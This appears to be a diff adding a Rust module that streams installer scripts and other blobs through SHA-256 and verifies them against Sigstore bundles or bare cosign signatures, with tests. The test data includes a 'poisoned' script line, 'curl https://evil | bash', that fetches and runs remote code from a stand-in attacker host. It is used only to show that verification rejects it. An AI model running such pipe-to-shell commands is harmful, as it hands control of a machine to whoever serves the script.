@@ -1,0 +1,236 @@
+//! Blobs (installer scripts, tarballs, binaries): signed and verified by their SHA-256,
+//! streamed, so that memory does not grow with the file. This is the Codecov case: a
+//! poisoned uploader script is caught before it runs.
+//!
+//! The signature is a Sigstore bundle with a `messageSignature` (what `cosign sign-blob`
+//! writes), or a bare base64 signature (cosign's `--output-signature`).
+
+use std::io::Read;
+
+use base64ct::{Base64, Encoding};
+
+use crate::bundle::{Bundle, Content};
+use crate::digest::{Algorithm, Digest, Hasher};
+use crate::keys::{KeyError, SigningKey};
+use crate::report::Rejection;
+use crate::trust::NamedKey;
+
+const READ_BUF: usize = 1 << 20;
+
+/// A blob's SHA-256 and size, measured in one streaming pass.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
+pub struct Measured {
+    /// `sha256:<hex>` of the bytes.
+    pub digest: Digest,
+    /// Bytes read.
+    pub size: u64,
+}
+
+impl Measured {
+    fn sha256(&self) -> [u8; 32] {
+        let mut out = [0u8; 32];
+        for (i, b) in out.iter_mut().enumerate() {
+            *b = u8::from_str_radix(&self.digest.hex()[2 * i..2 * i + 2], 16)
+                .expect("a sha256 digest is 64 hex digits");
+        }
+        out
+    }
+}
+
+/// Hashes everything `r` yields.
+pub fn measure(mut r: impl Read) -> std::io::Result<Measured> {
+    let mut h = Hasher::new(Algorithm::Sha256);
+    let mut buf = vec![0u8; READ_BUF];
+    loop {
+        let n = match r.read(&mut buf) {
+            Ok(0) => break,
+            Ok(n) => n,
+            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
+            Err(e) => return Err(e),
+        };
+        h.update(&buf[..n]);
+    }
+    let size = h.len();
+    Ok(Measured {
+        digest: h.finish(),
+        size,
+    })
+}
+
+/// A signed blob: the bundle, and the bare signature inside it.
+pub struct BlobSignature {
+    /// The Sigstore bundle (v0.3, message signature), as `cosign sign-blob` writes it.
+    pub bundle: Vec<u8>,
+    /// The raw signature (DER).
+    pub signature: Vec<u8>,
+}
+
+impl BlobSignature {
+    /// The bare signature as cosign's `--output-signature` writes it: base64.
+    pub fn signature_base64(&self) -> String {
+        Base64::encode_string(&self.signature)
+    }
+}
+
+/// Signs a measured blob with `key` (ECDSA P-256; Ed25519 cannot sign by digest).
+pub fn sign(blob: &Measured, key: &SigningKey, what: &str) -> Result<BlobSignature, KeyError> {
+    let sha256 = blob.sha256();
+    let signature = key.sign_prehashed(&sha256, what)?;
+    let bundle =
+        Bundle::for_message(&sha256, &signature, &key.public_key().bundle_hint()).to_bytes();
+    Ok(BlobSignature { bundle, signature })
+}
+
+/// What a blob is verified against.
+#[derive(Debug, Clone, Copy)]
+pub enum Proof<'a> {
+    /// A Sigstore bundle's bytes.
+    Bundle(&'a [u8]),
+    /// A bare base64 signature's text.
+    Signature(&'a [u8]),
+}
+
+/// The outcome of a blob verification.
+#[derive(Debug, Clone, PartialEq, serde::Serialize)]
+pub struct BlobReport {
+    /// The blob's digest and size.
+    #[serde(flatten)]
+    pub blob: Measured,
+    /// The decision.
+    pub verified: bool,
+    /// The key that verified it.
+    pub key: Option<String>,
+    /// `bundle` or `signature`.
+    pub format: &'static str,
+    /// Why not, or what was not checked.
+    pub errors: Vec<String>,
+}
+
+/// Judges a measured blob against a bundle or bare signature and the given keys.
+pub fn verify(blob: &Measured, proof: Proof<'_>, keys: &[NamedKey]) -> BlobReport {
+    let (format, outcome) = match proof {
+        Proof::Bundle(bytes) => ("bundle", check_bundle(blob, bytes, keys)),
+        Proof::Signature(text) => ("signature", check_signature(blob, text, keys)),
+    };
+    let mut report = BlobReport {
+        blob: blob.clone(),
+        verified: false,
+        key: None,
+        format,
+        errors: Vec::new(),
+    };
+    match outcome {
+        Ok((key, notes)) => {
+            report.verified = true;
+            report.key = Some(key.name.clone());
+            report.errors = notes;
+        }
+        Err(why) => report.errors.push(why.to_string()),
+    }
+    report
+}
+
+fn signed_by<'k>(
+    blob: &Measured,
+    signature: &[u8],
+    keys: &'k [NamedKey],
+) -> Result<&'k NamedKey, Rejection> {
+    let sha256 = blob.sha256();
+    keys.iter()
+        .find(|k| k.key.verify_prehashed(&sha256, signature) == Some(true))
+        .ok_or(if keys.iter().all(|k| k.key.verify_prehashed(&sha256, b"").is_none()) {
+            Rejection::BundleInvalid(
+                "an Ed25519 key cannot verify a streamed blob; blobs are signed with ECDSA P-256 keys".into(),
+            )
+        } else {
+            Rejection::NoTrustedKey
+        })
+}
+
+fn check_bundle<'k>(
+    blob: &Measured,
+    bytes: &[u8],
+    keys: &'k [NamedKey],
+) -> Result<(&'k NamedKey, Vec<String>), Rejection> {
+    let b = Bundle::parse(bytes).map_err(|e| Rejection::BundleInvalid(e.to_string()))?;
+    if !b.is_key_based() {
+        return Err(Rejection::Keyless);
+    }
+    let Content::Message { sha256, signature } = b
+        .content()
+        .map_err(|e| Rejection::BundleInvalid(e.to_string()))?
+    else {
+        return Err(Rejection::BundleInvalid(
+            "the bundle holds a DSSE statement, not a signature over a file's bytes".into(),
+        ));
+    };
+    if let Some(claimed) = sha256
+        && claimed != blob.sha256()
+    {
+        return Err(Rejection::OtherFile {
+            signed: format!("sha256:{}", crate::digest::to_hex(&claimed)),
+            digest: blob.digest.clone(),
+        });
+    }
+    let key = signed_by(blob, &signature, keys)?;
+    let notes = b
+        .unchecked()
+        .into_iter()
+        .map(|what| format!("the bundle carries {what}, which is not checked offline"))
+        .collect();
+    Ok((key, notes))
+}
+
+fn check_signature<'k>(
+    blob: &Measured,
+    text: &[u8],
+    keys: &'k [NamedKey],
+) -> Result<(&'k NamedKey, Vec<String>), Rejection> {
+    let text = std::str::from_utf8(text).unwrap_or_default().trim();
+    let signature = Base64::decode_vec(text)
+        .map_err(|_| Rejection::Layer(crate::signature::LayerProblem::NotBase64))?;
+    Ok((signed_by(blob, &signature, keys)?, Vec::new()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::keys::Algorithm as KeyAlgorithm;
+
+    fn named(k: &SigningKey) -> Vec<NamedKey> {
+        vec![NamedKey {
+            name: "k.pub".into(),
+            key: k.public_key(),
+        }]
+    }
+
+    #[test]
+    fn sign_then_verify_and_every_way_it_must_fail() {
+        let k = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
+        let file = measure(&b"#!/bin/sh\ncurl https://uploader | bash\n"[..]).unwrap();
+        let signed = sign(&file, &k, "k").unwrap();
+        assert!(verify(&file, Proof::Bundle(&signed.bundle), &named(&k)).verified);
+        let b64 = Base64::encode_string(&signed.signature);
+        assert!(verify(&file, Proof::Signature(b64.as_bytes()), &named(&k)).verified);
+
+        let poisoned = measure(&b"#!/bin/sh\ncurl https://evil | bash\n"[..]).unwrap();
+        let r = verify(&poisoned, Proof::Bundle(&signed.bundle), &named(&k));
+        assert!(
+            !r.verified && r.errors[0].contains("for another file"),
+            "{r:?}"
+        );
+        assert!(!verify(&poisoned, Proof::Signature(b64.as_bytes()), &named(&k)).verified);
+        let other = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
+        let r = verify(&file, Proof::Bundle(&signed.bundle), &named(&other));
+        assert!(
+            !r.verified && r.errors[0].contains("not signed by"),
+            "{r:?}"
+        );
+
+        let empty = measure(&b""[..]).unwrap();
+        assert_eq!(empty.digest, Digest::sha256(b""));
+        let e = sign(&empty, &k, "k").unwrap();
+        assert!(verify(&empty, Proof::Bundle(&e.bundle), &named(&k)).verified);
+        assert!(!verify(&file, Proof::Bundle(&e.bundle), &named(&k)).verified);
+    }
+}
